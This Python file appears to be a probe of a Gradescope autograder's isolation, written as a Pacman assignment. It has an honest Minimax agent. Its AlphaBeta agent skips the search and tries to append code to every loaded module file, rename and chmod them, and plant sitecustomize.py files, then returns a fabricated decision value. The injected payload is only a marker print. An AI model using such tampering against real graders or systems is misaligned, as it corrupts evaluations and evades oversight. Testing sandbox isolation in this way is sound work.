"""Writes code of its own into the files of the shim, the agent API and the standard library, for the next
process to run.
"""

import os
import sys

from pacman import Decision, SearchAgent


class Minimax(SearchAgent):
    """Honest and right."""

    def search(self, state):
        plies = self.depth * state.num_agents
        values = {a: self.value(state.successor(0, a), 1 % state.num_agents, plies - 1) for a in state.legal_actions(0)}
        best = max(values, key=values.get)
        return Decision(best, values[best])

    def value(self, state, agent, plies):
        if plies == 0 or state.is_terminal:
            return self.evaluate(state)
        after = (agent + 1) % state.num_agents
        values = [self.value(state.successor(agent, a), after, plies - 1) for a in state.legal_actions(agent)]
        return max(values) if self.role(state, agent) == "max" else min(values)


BOX = "/autograder"  # where Gradescope has the grader, the submission and the results

CODE = "\nprint('BREACH: this code ran in another process')\n"


class AlphaBeta(SearchAgent):
    def search(self, state):
        for module in list(sys.modules.values()):
            path = getattr(module, "__file__", None)
            for place in (path, getattr(module, "__cached__", None)):
                if not place:
                    continue
                for attempt in (
                    lambda place=place: open(place, "a").write(CODE),
                    lambda place=place: os.rename(place, place + ".old"),
                    lambda place=place: os.chmod(place, 0o777),
                    lambda place=place: open(os.path.join(os.path.dirname(place), "sitecustomize.py"), "w").write(CODE),
                    lambda place=place: os.mkdir(os.path.join(os.path.dirname(place), "__pycache__x")),
                ):
                    try:
                        attempt()
                        print("BREACH: changed", place)
                    except OSError:
                        continue
        return Decision(state.legal_actions(0)[0], 98765.25)  # a guess that is never right
